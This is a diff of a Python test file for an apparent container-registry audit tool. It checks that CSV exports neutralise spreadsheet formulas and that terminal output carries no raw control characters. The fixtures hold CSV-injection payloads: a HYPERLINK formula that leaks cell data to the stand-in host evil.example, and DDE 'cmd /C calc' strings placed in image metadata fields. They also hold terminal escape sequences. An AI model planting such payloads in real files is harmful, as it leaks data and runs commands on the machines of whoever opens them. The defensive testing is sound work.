@@ -26,8 +26,13 @@ from regframe.testing.faultproxy import Action, FaultProxy, Rule
 FORMULA_OS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 FORMULA_ARCH = "+cmd|' /C calc'!A0"
 FORMULA_VARIANT = "@SUM(1+1)*cmd|' /C calc'!A0"
-LABELS = {"minus": "-2+3+cmd|' /C calc'!A0", "tab": "\t=1+1", "cr": "\r=1+1", "quote": "'=kept as typed",
-          "plain": "fine"}
+LABELS = {
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "quote": "'=kept as typed",
+    "plain": "fine",
+}
 LAYER_TYPE = '=IMPORTXML("http://evil.example/","//a")'
 CHILD_OS, CHILD_ARCH = "=1+1", "@arch"
 BAD_REPOSITORY = '@SUM(1+1)*cmd|" /C calc"!A0'
@@ -36,10 +41,12 @@ TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 ESCAPES = ("\x1b]52;c;ZXZpbA==\x07", "\x1b[2J", "\x9b31m", "\x7f", "\x1b]0;owned\x1b\\")
 REPO = "hostile/app"
 
-FORMULA_IMAGE = build_image([layer("hostile-base", 700)], os=FORMULA_OS, architecture=FORMULA_ARCH,
-                            variant=FORMULA_VARIANT, labels=LABELS)
-MULTI = build_index([build_image([layer("hostile-child", 800)], os=CHILD_OS, architecture=CHILD_ARCH, oci=True)],
-                    oci=True)
+FORMULA_IMAGE = build_image(
+    [layer("hostile-base", 700)], os=FORMULA_OS, architecture=FORMULA_ARCH, variant=FORMULA_VARIANT, labels=LABELS
+)
+MULTI = build_index(
+    [build_image([layer("hostile-child", 800)], os=CHILD_OS, architecture=CHILD_ARCH, oci=True)], oci=True
+)
 
 
 def with_manifest(image, edit) -> object:
@@ -126,9 +133,17 @@ def test_audit_csvs_neutralise_formulas_from_the_registry(proxy, tmp_path, capsy
     assert main(["audit", proxy.url, "--out", str(out), "--older-than", "1d", "--no-progress"]) == 1
     capsys.readouterr()
     written = sorted(out.glob("*.csv"))
-    assert {p.name for p in written} >= {"catalog.csv", "tags.csv", "manifests.csv", "layers.csv", "errors.csv",
-                                         "storage_usage.csv", "shared_layers.csv", "stale_tags.csv",
-                                         "cleanup_plan.csv"}
+    assert {p.name for p in written} >= {
+        "catalog.csv",
+        "tags.csv",
+        "manifests.csv",
+        "layers.csv",
+        "errors.csv",
+        "storage_usage.csv",
+        "shared_layers.csv",
+        "stale_tags.csv",
+        "cleanup_plan.csv",
+    }
     for path in written:
         for row in cells(path)[1:]:
             for cell in row:
@@ -145,8 +160,15 @@ def test_audit_csvs_neutralise_formulas_from_the_registry(proxy, tmp_path, capsy
 
 
 def test_only_text_cells_are_quoted_numbers_stay_numbers():
-    frame = pd.DataFrame({"count": pd.array([-5, 3], dtype="Int64"), "ratio": [-1.5, 2.0], "flag": [True, False],
-                          "text": ["-5", "'quoted"], "name": pd.Categorical(["@x", "ok"])})
+    frame = pd.DataFrame(
+        {
+            "count": pd.array([-5, 3], dtype="Int64"),
+            "ratio": [-1.5, 2.0],
+            "flag": [True, False],
+            "text": ["-5", "'quoted"],
+            "name": pd.Categorical(["@x", "ok"]),
+        }
+    )
     safe = neutralize_formulas(frame)
     assert safe["count"].tolist() == [-5, 3] and safe["ratio"].tolist() == [-1.5, 2.0]
     assert safe["flag"].tolist() == [True, False]
@@ -165,8 +187,9 @@ def test_audit_report_loads_back_exactly_and_to_csv_keeps_values(proxy, tmp_path
     assert (row["os"], row["architecture"], row["variant"]) == (FORMULA_OS, FORMULA_ARCH, FORMULA_VARIANT)
     assert row["labels"] == LABELS
     assert LAYER_TYPE in set(loaded.layers["media_type"].astype(str))
-    assert {BAD_REPOSITORY, BAD_TAG} <= (set(loaded.errors["repository"].astype(str)) |
-                                         set(loaded.errors["tag"].dropna().astype(str)))
+    assert {BAD_REPOSITORY, BAD_TAG} <= (
+        set(loaded.errors["repository"].astype(str)) | set(loaded.errors["tag"].dropna().astype(str))
+    )
     with regframe.connect(proxy.url, docker_config=False) as reg:
         inv = reg.inventory([REPO], progress=False)
     inv.to_csv(tmp_path / "data")
@@ -178,7 +201,7 @@ def test_audit_report_loads_back_exactly_and_to_csv_keeps_values(proxy, tmp_path
 
 
 def assert_no_controls(text: str) -> None:
-    bad = [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f]
+    bad = [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
     assert not bad, f"raw control characters reach the terminal: {bad!r}"
 
 
